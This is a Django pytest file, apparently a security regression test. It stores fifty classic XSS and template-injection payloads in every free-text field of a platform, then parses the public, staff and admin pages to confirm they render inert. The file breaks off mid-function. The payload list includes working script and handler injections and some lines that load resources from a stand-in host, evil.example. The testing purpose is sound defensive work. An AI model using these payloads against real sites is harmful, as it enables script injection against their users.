"""XSS sweep: 50 classic payloads in every free-text field of the platform render inert.

Every user-provided text field (found by introspecting the models: CharField and TextField that
are not codes, tokens, e-mail or web addresses, or choices) receives payloads — all 50 in a
long text, as many as fit in a short one, starting each field at a different payload. Then the
pages that show them (public pages, partners' and participants' pages, staff pages, the admin's
lists and forms) are parsed as a browser would (tinyhtml5, an HTML5 parser): no element or
attribute a payload would introduce may exist — no script other than our own files, no on*
handler, no javascript: address, no frame, object, base, meta refresh or inline style — and
the payloads' marks are there as text. The PDFs show the payloads as literal text and fetch
nothing from outside.
"""

import io
import re
import uuid
from datetime import timedelta
from decimal import Decimal

import pytest
import tinyhtml5
from django.apps import apps
from django.contrib import admin
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import models
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader

from accompaniment.dossier import dossier_context
from accompaniment.enums import DecisionOutcome, FindingKind, Side, TransitionKind
from accompaniment.models import (
    Action,
    Finding,
    Measurement,
    PhaseTemplate,
    PhaseTransition,
    RequestComplement,
    RequestDecision,
    SupportRequest,
)
from accompaniment.models import Meeting as AccompanimentMeeting
from accompaniment.services import accompaniments as acc_services
from accompaniment.services import content as content_services
from actors.charter_enums import CommitteeKind, EventKind
from actors.enums import ActorKind, ContactPolicy, MembershipStatus
from actors.events import services as event_services
from actors.models import (
    Activity,
    ActorProfile,
    Availability,
    Committee,
    Decision,
    Domain,
    EventContributor,
    EventDocument,
    EventMessage,
    EventSession,
    Meeting,
    MeetingParticipant,
    Membership,
    Qualification,
    Signature,
    Structure,
    StructureType,
    User,
)
from actors.reports import annual_report_context
from actors.services import committees as committee_services
from barometer import event_surveys
from barometer.enums import CampaignStatus, ResponseStatus
from barometer.models import Answer, Choice, Response
from barometer.reports import build_pdf as barometer_pdf
from cops.models import ReportJob
from cops.pdf import LocalOnlyFetcher, render_pdf
from cops.tokens import new_token
from directory.indexing import index_persons, index_projects, index_structures
from directory.models import ContactMessage
from directory.services import contact as contact_services
from directory.services import projects as project_services
from directory.services import resources as resource_services
from selfassess.charts import target_context
from selfassess.enums import Side as SelfassessSide
from selfassess.models import AssessmentSession, JointRating, Rating
from selfassess.results import session_results
from tests.factories.accompaniment import make_accompaniment, make_referent
from tests.factories.barometer import CampaignFactory, make_invitation, make_questionnaire
from tests.factories.charter import CharterVersionFactory
from tests.factories.directory import make_person, make_project, make_structure
from tests.factories.selfassess import FrameworkFactory, ParticipantFactory

pytestmark = pytest.mark.django_db

# Fifty classic payloads, each with its own mark (zqxssNN) to find it back in the page's text.
PAYLOADS = [
    "<script>alert('zqxss00')</script>",
    "<SCRIPT SRC=http://evil.example/zqxss01.js></SCRIPT>",
    "<img src=x onerror=alert('zqxss02')>",
    "<svg onload=alert('zqxss03')>",
    "<svg/onload=alert('zqxss04')>",
    "<body onload=alert('zqxss05')>",
    "<iframe src=\"javascript:alert('zqxss06')\"></iframe>",
    "<a href=\"javascript:alert('zqxss07')\">clic</a>",
    "<a href=\"JaVaScRiPt:alert('zqxss08')\">clic</a>",
    "<a href=\"&#106;avascript:alert('zqxss09')\">clic</a>",
    "<a href=\"jav&#x09;ascript:alert('zqxss10')\">clic</a>",
    "\"><script>alert('zqxss11')</script>",
    "'><img src=x onerror=alert('zqxss12')>",
    '" onmouseover="alert(\'zqxss13\')" x="',
    "' onfocus='alert(14)' autofocus x='zqxss14",
    "<div style=\"background:url(javascript:alert('zqxss15'))\">x</div>",
    "<div style=\"width:expression(alert('zqxss16'))\">x</div>",
    "<style>@import 'http://evil.example/zqxss17.css';</style>",
    "<link rel=stylesheet href=http://evil.example/zqxss18.css>",
    "<object data=\"javascript:alert('zqxss19')\"></object>",
    "<embed src=\"javascript:alert('zqxss20')\">",
    '<base href="http://evil.example/zqxss21/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/zqxss22">',
    "<form action=\"javascript:alert('zqxss23')\"><button>x</button></form>",
    "<button formaction=\"javascript:alert('zqxss24')\">x</button>",
    "<input autofocus onfocus=alert('zqxss25')>",
    "<details open ontoggle=alert('zqxss26')>",
    "<marquee onstart=alert('zqxss27')>",
    "<video><source onerror=alert('zqxss28')></video>",
    "<audio src=x onerror=alert('zqxss29')>",
    "<svg><script>alert('zqxss30')</script></svg>",
    "<svg><animate onbegin=alert('zqxss31') attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert('zqxss32')\"><text x=20 y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('zqxss33')>",
    "<IMG SRC=JaVaScRiPt:alert('zqxss34')>",
    '<img """><script>alert(\'zqxss35\')</script>">',
    "%3Cscript%3Ealert('zqxss36')%3C/script%3E",
    "&lt;script&gt;alert('zqxss37')&lt;/script&gt;",
    "\\u003cscript\\u003ealert('zqxss38')\\u003c/script\\u003e",
    "{{7*7}}zqxss39",
    "{% debug %}zqxss40",
    "${7*7}zqxss41",
    "<%= 7*7 %>zqxss42",
    "</textarea><script>alert('zqxss43')</script>",
    "</title><script>alert('zqxss44')</script>",
    "--><script>alert('zqxss45')</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('zqxss46')>\">",
    "javascript:alert('zqxss47')",
    "<iframe srcdoc=\"<script>alert('zqxss48')</script>\"></iframe>",
    "<img src=x:alert(alt) onerror=eval(src) alt='zqxss49'>",
]
# Payloads that are inert even when printed raw (encoded text, other template languages): they
# check that nothing decodes or evaluates them, by finding them back unchanged.
INERT_WHEN_RAW = {36, 37, 38, 39, 40, 41, 42, 47}
MARK = re.compile(r"zqxss(\d\d)")

# Fields that are not free text a person types, with the reason.
NOT_FREE_TEXT = {
    ("cops", "OutgoingEmail"): "written by the platform (rendered from templates)",
    ("cops", "RateCounter"): "technical key",
    ("cops", "DataVersion"): "written by PostgreSQL (a watched set's name and token)",
    ("cops", "DataChange"): "written by PostgreSQL (a watched set's name)",
    ("cops", "ReportJob", "kind"): "a registered report kind",
    ("cops", "ReportJob", "filename"): "built by the platform (slugified)",
    ("cops", "ReportJob", "error"): "written by the platform",
    ("actors", "Departement"): "official reference data (INSEE)",
    ("actors", "Commune"): "official reference data (INSEE)",
    ("actors", "Person", "consent_version"): "platform constant",
    ("actors", "Structure", "consent_version"): "platform constant",
    ("actors", "Structure", "siret"): "digits, validated",
    ("actors", "Structure", "finess"): "digits, validated",
    ("actors", "Structure", "postal_code"): "digits, validated",
    ("actors", "User", "password"): "hash",
    ("directory", "Entry"): "derived from the profiles by the index",
    ("barometer", "Questionnaire", "public_key"): "random key",
    ("barometer", "Delivery"): "token hash and SMTP error",
    ("barometer", "Response", "resume_key_hash"): "hash",
    ("accompaniment", "EvaluationLink"): "token hash",
    ("actors", "NewsletterDelivery"): "token hash and SMTP error",
    ("actors", "NewsletterIssueItem", "url"): "an address built by the platform (SITE_URL + the item's path)",
}
PROJECT_APPS = ("cops", "actors", "directory", "barometer", "selfassess", "accompaniment")


def free_text_fields() -> list[tuple[type[models.Model], models.Field]]:
    """Every CharField / TextField a person fills in, by introspection."""
    found = []
    for app in PROJECT_APPS:
        for model in apps.get_app_config(app).get_models():
            for field in model._meta.concrete_fields:
                if not isinstance(field, models.CharField | models.TextField):
                    continue
                if field.choices or not field.editable:
                    continue
                if isinstance(field, models.EmailField | models.URLField | models.SlugField):
                    continue
                name = model.__name__
                if (app, name) in NOT_FREE_TEXT or (app, name, field.name) in NOT_FREE_TEXT:
                    continue
                found.append((model, field))
    return found


def value_for(field: models.Field, start: int) -> tuple[str, list[int]]:
    """The payloads to store in a field: all of them in a long text, else those that fit from `start`."""
    limit = field.max_length
    if limit is None:
        return " ".join(PAYLOADS), list(range(len(PAYLOADS)))
    chosen, text = [], ""
    for offset in range(len(PAYLOADS)):
        n = (start + offset) % len(PAYLOADS)
        candidate = f"{text} {PAYLOADS[n]}".strip()
        if len(candidate) <= limit:
            text, chosen = candidate, [*chosen, n]
    return text, chosen


# --- The world -------------------------------------------------------------------------------------------


def build_world(admin_user, referent_user) -> dict:
    """One object of each model carrying free text, built through factories and services; the
    payloads are written afterwards, straight into the rows (as any input path could)."""
    today = timezone.localdate()
    now = timezone.now()
    objects: dict[type, list[int]] = {}

    def keep(*instances):
        for instance in instances:
            objects.setdefault(type(instance), []).append(instance.pk)

    # Directory
    person = make_person(first_name="Camille", last_name="Durand")
    structure = make_structure(name="Maison de santé")
    make_referent(referent_user, structure)
    membership = Membership.objects.create(
        person=person,
        structure=structure,
        function="Bénévole",
        message="Bonjour",
        status=MembershipStatus.ACCEPTED,
    )
    taxonomies = [
        ActorProfile.objects.create(code="xss-profil", label="Profil", side="usager"),
        Domain.objects.create(code="xss-domaine", label="Domaine"),
        Qualification.objects.create(code="xss-qualif", label="Qualification"),
        Activity.objects.create(code="xss-activite", label="Activité"),
        Availability.objects.create(code="xss-dispo", label="Disponibilité"),
    ]
    for item in taxonomies:
        getattr(person, {ActorProfile: "profiles", Domain: "domains", Qualification: "qualifications",
                         Activity: "activities", Availability: "availabilities"}[type(item)]).add(item)  # fmt: skip
    structure_type = StructureType.objects.create(code="xss-type", label="Type", category="Catégorie")
    Structure.objects.filter(pk=structure.pk).update(structure_type=structure_type)
    person.domains.add(taxonomies[1])
    structure.domains.add(taxonomies[1])
    keep(person, structure, membership, structure_type, *taxonomies)
    keep(User.objects.get(pk=person.user_id))

    # Charter and committees
    version = CharterVersionFactory(year=2040)
    person_signature = Signature.objects.create(
        version=version,
        kind=ActorKind.PERSON,
        person=person,
        signed_by=person.user,
        signer_name="Camille",
        signed_at=now,
    )
    withdrawn = Signature.objects.create(
        version=version,
        kind=ActorKind.STRUCTURE,
        structure=structure,
        signed_by=referent_user,
        signer_name="Régine",
        signed_at=now - timedelta(days=3),
        withdrawn_at=now - timedelta(days=1),
        withdrawal_reason="Motif",
    )
    keep(version, person_signature, withdrawn)
    copil = Committee.objects.get(kind=CommitteeKind.COPIL)
    copart = Committee.objects.get(kind=CommitteeKind.COPART)
    professional = make_person(first_name="Paul", last_name="Pro")
    copart_meeting = committee_services.meeting_create(
        committee=copart, title="CoPart", starts_at=now - timedelta(days=5), ends_at=now - timedelta(days=5, hours=-2),
        location="Toulouse", visio_url="", agenda="Ordre du jour", by=admin_user,
    )  # fmt: skip
    binome = committee_services.binome_create(
        committee=copil, professional=professional, partner=person, start_date=today - timedelta(days=10),
        end_date=None, by=admin_user, professional_role="Rôle", partner_role="Rôle",
    )  # fmt: skip
    mandates = list(binome.mandates.all())
    validation = committee_services.composition_validate(
        committee=copil, meeting=copart_meeting, validated_on=today - timedelta(days=5), mandates=mandates,
        note="Observations", by=admin_user,
    )  # fmt: skip
    meeting = committee_services.meeting_create(
        committee=copil, title="CoPil", starts_at=now + timedelta(days=5), ends_at=now + timedelta(days=5, hours=2),
        location="Montpellier", visio_url="", agenda="Ordre du jour", by=admin_user,
    )  # fmt: skip
    participant = committee_services.meeting_participant_add(
        meeting=meeting, name="Régine", email=referent_user.email, by=admin_user
    )
    decision = Decision.objects.create(meeting=copart_meeting, text="Décision")
    Meeting.objects.filter(pk=copart_meeting.pk).update(
        minutes="Compte rendu", public_minutes="Partie publique", minutes_approved_at=now
    )
    Decision.objects.filter(pk=decision.pk).update(follow_up_note="Suivi")
    keep(copil, copart, copart_meeting, meeting, validation, participant, decision, *mandates)

    # Barometer: a published campaign with answers, one of them quoted on the public page.
    campaign = CampaignFactory(year=2041, anonymous=False, status=CampaignStatus.PUBLISHED)
    questionnaire = make_questionnaire(campaign)
    invitation = make_invitation(questionnaire, email="invite@exemple.fr", name="Invité")
    questions = {q.code: q for q in questionnaire.questions.all()}
    response = Response.objects.create(
        questionnaire=questionnaire, status=ResponseStatus.SUBMITTED, invitation=invitation,
        consented_on=today, started_on=today, submitted_on=today,
    )  # fmt: skip
    answers = [
        Answer.objects.create(response=response, question=questions["metier"], text="Métier"),
        Answer.objects.create(
            response=response, question=questions["commentaire"], text="Merci", featured=True
        ),
        Answer.objects.create(
            response=response, question=questions["profil"], choices=["_autre"], text="Autre"
        ),
        Answer.objects.create(
            response=response, question=questions["freins"], choices=["temps", "_autre"], text="Autre"
        ),
    ]
    keep(campaign, questionnaire, invitation, *answers)
    keep(
        *questionnaire.sections.all(),
        *questions.values(),
        *Choice.objects.filter(question__questionnaire=questionnaire),
    )

    # Self-assessment: a session with ratings, comments and a joint note.
    framework = FrameworkFactory(is_active=True)
    session = AssessmentSession.objects.create(
        title="Séance", framework=framework, facilitator=admin_user, structure=structure, group_label="Groupe",
        context="Contexte", summary="Synthèse",
    )  # fmt: skip
    pro = ParticipantFactory(session=session, side=SelfassessSide.PROFESSIONAL, name="Pro")
    user_side = ParticipantFactory(session=session, side=SelfassessSide.USER, name="Usager")
    ratings = []
    for criterion in framework.criteria.all():
        for rater, score in ((pro, 2), (user_side, 3)):
            ratings.append(
                Rating.objects.create(
                    participant=rater, criterion=criterion, score=score, comment="Commentaire"
                )
            )
        keep(
            JointRating.objects.create(
                session=session, criterion=criterion, score=3, note="Note", updated_by=admin_user
            )
        )
    keep(framework, session, pro, user_side, *ratings, *framework.sectors.all(), *framework.criteria.all())

    # Accompaniment: a request, its decision and complement, an accompaniment with content.
    support_request = SupportRequest.objects.create(
        structure=structure, requested_by=referent_user, support_type="projet", title="Demande", context="Contexte",
        expected_outcome="Résultat", contact_name="Contact", contact_email=referent_user.email, contact_phone="0600",
        status="submitted", submitted_at=now - timedelta(days=3),
    )  # fmt: skip
    decision_row = RequestDecision.objects.create(
        request=support_request,
        outcome=DecisionOutcome.values[0],
        reason="Motif",
        decided_on=today,
        recorded_by=admin_user,
    )
    complement = RequestComplement.objects.create(
        request=support_request, text="Complément", added_by=referent_user
    )
    template = PhaseTemplate.objects.get(is_default=True)
    accompaniment = make_accompaniment(structure=structure, template=template, professional_lead=admin_user)
    member = acc_services.participant_add(
        accompaniment=accompaniment, first_name="Inès", last_name="Roux", email="ines@exemple.fr",
        side=Side.USER, function="Fonction",
    )  # fmt: skip
    content_services.meeting_add(
        accompaniment=accompaniment,
        held_on=today,
        title="Rencontre",
        notes="Notes",
        participants=[member],
        by=admin_user,
    )
    content_services.finding_add(
        accompaniment=accompaniment, kind=FindingKind.LEVER, text="Constat", by=admin_user
    )
    content_services.action_add(
        accompaniment=accompaniment, title="Action", owner=member, due_on=today + timedelta(days=10), by=admin_user,
        description="Précisions",
    )  # fmt: skip
    indicator = content_services.indicator_add(
        accompaniment=accompaniment, name="Indicateur", baseline=Decimal("1"), target=Decimal("5"), by=admin_user,
        unit="u", description="Calcul",
    )  # fmt: skip
    content_services.measurement_add(
        accompaniment=accompaniment, indicator=indicator, measured_on=today, value=Decimal("2"), by=admin_user,
        comment="Commentaire",
    )  # fmt: skip
    transition = PhaseTransition.objects.create(
        accompaniment=accompaniment, phase=accompaniment.current_phase, kind=TransitionKind.values[0],
        reason="Motif", by=admin_user,
    )  # fmt: skip
    keep(support_request, decision_row, complement, template, accompaniment, member, indicator, transition)
    keep(*template.definitions.all(), *accompaniment.phases.all())
    keep(*AccompanimentMeeting.objects.filter(accompaniment=accompaniment))
    keep(
        *Finding.objects.filter(accompaniment=accompaniment),
        *Action.objects.filter(accompaniment=accompaniment),
    )
    keep(*Measurement.objects.filter(indicator=indicator))
    keep(
        content_services.event_note_add(
            accompaniment=accompaniment, title="Note", detail="Détail", visibility="partage", by=admin_user
        )
    )

    # contact relay: a message to the person, answered and reported through the services. Its secret
    # link is only ever in the relayed email: a known one is set here, as cops.tokens makes them.
    contact_services.contact_preferences_save(user=person.user, person_policy=ContactPolicy.EVERYONE)
    contact_message = contact_services.contact_message_send(
        person=person, sender_user=None, sender_name="Expéditeur", sender_email="expediteur@exemple.fr",
        purpose="autre", body="Message", enforce_limits=False,
    )  # fmt: skip
    contact_services.contact_message_reply(message=contact_message, body="Réponse")
    contact_services.contact_message_report_abuse(message=contact_message, reason="Motif")
    contact_token, contact_token_hash = new_token()
    ContactMessage.objects.filter(pk=contact_message.pk).update(token_hash=contact_token_hash)
    keep(contact_message)

    # A report job whose title the staff read in the report list.
    job = ReportJob.objects.create(kind="accompaniment.dossier", title="Dossier", requested_by=admin_user)
    keep(job)

    # Resources: a published one (its title, summary, file format) and a refused one (the reason).
    resource_changes = {"kind": "guide", "summary": "Résumé", "audience": "tous", "licence": "autre"}
    resource = resource_services.resource_propose(
        by=admin_user,
        changes={**resource_changes, "title": "Ressource", "link": "https://exemple.fr/"},
        publish=True,
    )
    refused = resource_services.resource_propose(
        by=admin_user,
        changes={**resource_changes, "title": "Ressource refusée", "link": "https://exemple.fr/r"},
    )
    refused = resource_services.resource_refuse(resource=refused, by=admin_user, reason="Motif")
    keep(resource, refused)

    # Events: a public workshop with its programme, an organiser, a document and a registration.
    event = Meeting.objects.create(
        kind=EventKind.WORKSHOP, slug="atelier-xss", title="Atelier", starts_at=now + timedelta(days=10),
        ends_at=now + timedelta(days=10, hours=2), location="Albi", is_public=True, registration_open=True,
        summary="En bref", description="Description", accessibility="Accès",
    )  # fmt: skip
    event_session = EventSession.objects.create(
        event=event, title="Séance", description="Détail", track="A", room="Salle", speakers="Intervenants",
        starts_at=event.starts_at, ends_at=event.ends_at,
    )  # fmt: skip
    contributor = EventContributor.objects.create(
        event=event, structure=structure, role="organisateur", detail="Précision", accepted_at=now
    )
    event_document = EventDocument.objects.create(
        event=event, moment="avant", title="Support", is_public=True,
        file=ContentFile(b"%PDF-1.4\n%%EOF\n", "support.pdf"), file_format="pdf", file_size=15,
    )  # fmt: skip
    registration = event_services.register(
        event=event, name="Inscrit", email="inscrit@exemple.fr", accessibility_needs="Besoin",
        session_ids=[event_session.pk],
    )  # fmt: skip
    keep(event, event_session, contributor, event_document, registration)
    # The staff's message to the people registered, and the event's satisfaction questionnaire.
    event_message = EventMessage.objects.create(
        event=event, subject="Objet", body="Message", audience="inscrits", recipient_count=1,
        client_key=uuid.uuid4(), sent_by=admin_user, sent_at=now,
    )  # fmt: skip
    keep(event_message)
    event_surveys.survey_create(event=event)

    # Projects: a published one with its document and a person who accepted (with a role).
    project = make_project(by=referent_user, structure=structure, title="Projet")
    project_services.project_document_add(
        project=project,
        by=referent_user,
        kind="pitch",
        title="Pitch",
        upload=SimpleUploadedFile("pitch.pdf", b"%PDF-1.4\n%%EOF\n", content_type="application/pdf"),
        file_format="pdf",
    )
    invitation = project_services.project_invite_person(
        project=project, by=referent_user, person=person, role="Rôle"
    )
    project_services.project_person_respond(invitation=invitation, by=person.user, accept=True)
    keep(project, project.documents.get(), invitation)

    # News: a published item on a topic, linked to the event (topics show on the cards and the
    # newsletter's subscription form).
    from actors.models import NewsItem, NewsletterTopic

    news_topic = NewsletterTopic.objects.order_by("position", "pk").first()
    news_item = NewsItem.objects.create(
        title="Actualité",
        slug="actualite-xss",
        summary="En bref",
        body="Texte",
        image_alt="Image",
        published_at=now,
    )
    news_item.topics.set([news_topic])
    news_item.events.set([event])
    keep(news_item, news_topic)

    # The newsletter: a sent issue (the public archive shows it) and a draft, one item each.
    from actors.models import NewsletterIssue, NewsletterIssueItem

    issues = [
        NewsletterIssue.objects.create(number=1, title="Numéro", status="sent", sent_at=now),
        NewsletterIssue.objects.create(number=2, title="Brouillon"),
    ]
    for issue in issues:
        issue.topics.set([news_topic])
        item = NewsletterIssueItem.objects.create(
            issue=issue, kind="actualite", source_id=news_item.pk, title="Élément", url="http://testserver/"
        )
        keep(issue, item)

    # The payloads, field by field.
    stored: dict[tuple[str, str], list[int]] = {}
    for start, (model, field) in enumerate(free_text_fields()):
        ids = objects.get(model, [])
        if not ids:
            continue
        chosen = set()
        for index, pk in enumerate(ids):
            # Each row gets its own text (some fields are unique within their parent).
            text, numbers = value_for(field, start * 7 + index)
            if field.max_length is None and index:
                text = f"{text} {index}"
            model.objects.filter(pk=pk).update(**{field.name: text})
            chosen |= set(numbers)
        stored[(model.__name__, field.name)] = sorted(chosen)
    index_persons([person.pk, professional.pk])
    index_structures([structure.pk])
    index_projects([project.pk])
    return {
        "objects": objects,
        "stored": stored,
        "person": person,
        "structure": structure,
        "version": version,
        "meeting": meeting,
        "copart_meeting": copart_meeting,
        "mandate": mandates[0],
        "campaign": campaign,
        "questionnaire": questionnaire,
        "section": questionnaire.sections.first(),
        "question": questions["commentaire"],
        "session": session,
        "pro": pro,
        "support_request": support_request,
        "accompaniment": accompaniment,
        "job": job,
        "contact_token": contact_token,
        "resource": resource,
        "refused_resource": refused,
        "project": project,
        "event": event,
        "news_item": news_item,
        "issue_sent": issues[0],
        "issue_draft": issues[1],
        "event_token": event_services.personal_token(MeetingParticipant.objects.get(pk=registration.pk)),
    }


@pytest.fixture
def world(admin_user, partner, settings):
    settings.RATE_LIMITS = {"directory.search": (100_000, 60)}
    return build_world(admin_user, partner)


# --- Reading pages as a browser would ---------------------------------------------------------------------

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "background", "poster", "srcdoc", "values", "to", "from",
    "by", "lowsrc", "dynsrc", "codebase", "ping", "cite", "xmlns:xlink", "srcset",
}  # fmt: skip
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "marquee"}
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:text/html")


def local_name(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def live_markup(html: str) -> list[str]:
    """What in the page could run or load something: parsed like a browser parses it."""
    problems = []
    for element in tinyhtml5.parse(html).iter():
        if not isinstance(element.tag, str):
            continue
        tag = local_name(element.tag)
        described = f"<{tag} {dict(element.attrib)}>"
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"element {described}")
        if tag == "script":
            source = element.get("src", "")
            if not source.startswith("/") or source.startswith("//") or (element.text or "").strip():
                problems.append(f"script {described} {element.text!r}")
        if tag == "meta" and element.get("http-equiv"):
            problems.append(f"meta refresh {described}")
        if tag == "link" and not element.get("href", "").startswith("/"):
            problems.append(f"link {described}")
        for name, value in element.attrib.items():
            attribute = local_name(name)
            if attribute.startswith("on"):
                problems.append(f"handler {attribute} in {described}")
            cleaned = re.sub(r"[\x00-\x20]", "", value).lower()
            if attribute in URL_ATTRIBUTES and cleaned.startswith(DANGEROUS_SCHEMES):
                problems.append(f"address {attribute} in {described}")
            if attribute == "style":
                problems.append(f"inline style in {described}")
    return problems


def page_text(html: str) -> str:
    return "".join(tinyhtml5.parse(html).itertext())


def test_the_checker_sees_each_payload_when_it_is_live():
    for n, payload in enumerate(PAYLOADS):
        if n in INERT_WHEN_RAW:
            assert live_markup(f"<p>{payload}</p>") == [], payload
            continue
        contexts = [
            f"<p>{payload}</p>",
            f'<p><a title="{payload}">x</a></p>',
            f"<p><a title='{payload}'>x</a></p>",
        ]
        assert any(live_markup(html) for html in contexts), payload
    # Bare javascript: addresses are live in a link.
    assert live_markup(f'<a href="{PAYLOADS[47]}">x</a>') != []


def test_every_free_text_field_receives_payloads(world):
    fields = {(model.__name__, field.name) for model, field in free_text_fields()}

    assert set(world["stored"]) == fields
    assert all(world["stored"].values())


def public_pages(world) -> dict[str, str]:
    return {
        "home": reverse("home"),
        "directory": reverse("directory:list"),
        "directory search": reverse("directory:list") + "?q=script",
        "map": reverse("directory:map"),
        "patient partners": reverse("directory:patient_partners"),
        "person": reverse("directory:person_detail", args=[world["person"].pk]),
        "structure": reverse("directory:structure_detail", args=[world["structure"].pk]),
        "charter": reverse("charter:charter"),
        "charter version": reverse("charter:version", args=[world["version"].year]),
        "signatories": reverse("charter:signatories") + f"?annee={world['version'].year}",
        "statistics": reverse("charter:statistics") + f"?annee={world['version'].year}",
        "committees": reverse("charter:committees"),
        "copil": reverse("charter:copil"),
        "copart": reverse("charter:committee_detail", args=["copart"]),
        "decisions": reverse("charter:decisions"),
        "resources": reverse("directory:resources"),
        "resource": reverse("directory:resource_detail", args=[world["resource"].slug]),
        "resources search": reverse("directory:resources") + "?q=script",
        "glossary": reverse("directory:glossary"),
        "project": reverse("directory:project_detail", args=[world["project"].slug]),
        "projects": reverse("directory:list") + "?type=projet",
        "embedded map": reverse("directory:map_embed"),
        "agenda": reverse("events:agenda"),
        "agenda month": reverse("events:month", args=[world["event"].starts_at.strftime("%Y-%m")]),
        "event": reverse("events:detail", args=[world["event"].slug]),
        "barometer": reverse("barometer:landing"),
        "barometer results": reverse("barometer:public_results", args=[world["campaign"].year]),
        "accompaniment landing": reverse("accompaniment:landing"),
        "selfassess": reverse("selfassess:index"),
        "news": reverse("news:list"),
        "news item": reverse("news:detail", args=[world["news_item"].slug]),
        "newsletter subscription": reverse("news:subscribe"),
        "newsletter archive": reverse("newsletter:archive"),
        "newsletter issue": reverse("newsletter:issue", args=[world["issue_sent"].number]),
    }


def staff_pages(world) -> dict[str, str]:
    campaign, accompaniment, session = world["campaign"], world["accompaniment"], world["session"]
    return {
        "staff home": reverse("platform:staff_home"),
        "staff space": reverse("actors:account"),
        "resource moderation": reverse("directory:resource_moderation"),
        "project edit": reverse("directory:project_edit", args=[world["project"].slug]),
        "project persons": reverse("directory:project_persons", args=[world["project"].slug]),
        "project documents": reverse("directory:project_documents", args=[world["project"].slug]),
        "moderation project": reverse("directory:moderation_review", args=["projet", world["project"].pk]),
        "events": reverse("events:staff_list"),
        "event edit": reverse("events:staff_edit", args=[world["event"].pk]),
        "event registrations": reverse("events:staff_registrations", args=[world["event"].pk]),
        "event documents": reverse("events:staff_documents", args=[world["event"].pk]),
        "event contributors": reverse("events:staff_contributors", args=[world["event"].pk]),
        "event messages": reverse("events:staff_messages", args=[world["event"].pk]),
        "event survey": reverse("barometer:event_survey", args=[world["event"].pk]),
        "event survey results": reverse("barometer:event_survey_results", args=[world["event"].pk]),
        "refused resource": reverse("directory:resource_detail", args=[world["refused_resource"].slug]),
        "resource review": reverse("directory:resource_review", args=[world["refused_resource"].pk]),
        "decisions": reverse("charter:decisions"),
        "moderation": reverse("directory:moderation_queue"),
        "moderation person": reverse("directory:moderation_review", args=["personne", world["person"].pk]),
        "moderation structure": reverse(
            "directory:moderation_review", args=["structure", world["structure"].pk]
        ),
        "membership requests": reverse("directory:membership_requests"),
        "charter manage": reverse("charter:manage"),
        "charter version edit": reverse("charter:version_edit", args=[world["version"].pk]),
        "committees manage": reverse("charter:committees_manage"),
        "copil manage": reverse("charter:committee_manage", args=["copil"]),
        "copart manage": reverse("charter:committee_manage", args=["copart"]),
        "mandate edit": reverse("charter:mandate_edit", args=[world["mandate"].pk]),
        "meeting": reverse("charter:meeting_detail", args=[world["meeting"].pk]),
        "copart meeting": reverse("charter:meeting_detail", args=[world["copart_meeting"].pk]),
        "meeting edit": reverse("charter:meeting_edit", args=[world["meeting"].pk]),
        "minutes": reverse("charter:meeting_minutes", args=[world["copart_meeting"].pk]),
        "attendance": reverse("charter:meeting_attendance", args=[world["copart_meeting"].pk]),
        "barometer campaigns": reverse("barometer:staff_campaigns"),
        "barometer campaign": reverse("barometer:staff_campaign", args=[campaign.year]),
        "barometer campaign edit": reverse("barometer:staff_campaign_edit", args=[campaign.year]),
        "barometer invitations": reverse("barometer:staff_invitations", args=[campaign.year]),
        "barometer questionnaire": reverse("barometer:staff_questionnaire", args=[world["questionnaire"].pk]),
        "barometer preview": reverse("barometer:staff_preview", args=[world["questionnaire"].pk]),
        "barometer section": reverse("barometer:staff_section_edit", args=[world["section"].pk]),
        "barometer question": reverse("barometer:staff_question_edit", args=[world["question"].pk]),
        "barometer results": reverse("barometer:staff_results", args=[campaign.year]),
        "barometer questionnaire results": reverse(
            "barometer:staff_questionnaire_results", args=[world["questionnaire"].pk]
        ),
        "barometer free texts": reverse("barometer:staff_free_texts", args=[world["questionnaire"].pk]),
        "barometer contacts": reverse("barometer:staff_contacts", args=[campaign.year]),
        "selfassess index": reverse("selfassess:index"),
        "selfassess session": reverse("selfassess:session_detail", args=[session.pk]),
        "selfassess target": reverse("selfassess:session_target", args=[session.pk]),
        "selfassess history": reverse("selfassess:session_history", args=[session.pk]),
        "accompaniment requests": reverse("accompaniment:request_list"),
        "accompaniment request": reverse("accompaniment:request_detail", args=[world["support_request"].pk]),
        "accompaniment board": reverse("accompaniment:board"),
        "accompaniment": reverse("accompaniment:detail", args=[accompaniment.pk]),
        "accompaniment edit": reverse("accompaniment:edit", args=[accompaniment.pk]),
        "accompaniment action": reverse("accompaniment:action_add", args=[accompaniment.pk]),
        "accompaniment meeting": reverse("accompaniment:meeting_add", args=[accompaniment.pk]),
        "accompaniment measurement": reverse("accompaniment:measurement_add", args=[accompaniment.pk]),
        "reports": reverse("platform:report_list"),
        "report": reverse("platform:report_status", args=[world["job"].pk]),
        "news staff list": reverse("news:staff_list"),
        "news edit": reverse("news:staff_edit", args=[world["news_item"].pk]),
        "news delete": reverse("news:staff_delete", args=[world["news_item"].pk]),
        "my newsletter subscription": reverse("news:my_subscription"),
        "newsletter issues": reverse("newsletter:staff_list"),
        "newsletter issue sent": reverse("newsletter:staff_issue", args=[world["issue_sent"].pk]),
        "newsletter issue draft": reverse("newsletter:staff_issue", args=[world["issue_draft"].pk]),
        "newsletter preview": reverse("newsletter:staff_preview", args=[world["issue_draft"].pk]),
        "newsletter preview text": reverse("newsletter:staff_preview", args=[world["issue_draft"].pk])
        + "?format=texte",
        "newsletter send": reverse("newsletter:staff_send", args=[world["issue_draft"].pk]),
    }


def admin_pages(world) -> dict[str, str]:
    pages = {}
    for model, _model_admin in admin.site._registry.items():
        info = (model._meta.app_label, model._meta.model_name)
        pages[f"admin {info[1]} list"] = reverse("admin:{}_{}_changelist".format(*info))
        ids = world["objects"].get(model) or list(model.objects.values_list("pk", flat=True)[:1])
        if ids:
            pages[f"admin {info[1]} change"] = reverse("admin:{}_{}_change".format(*info), args=[ids[0]])
    return pages


def read_pages(client, pages: dict[str, str]) -> dict[str, str]:
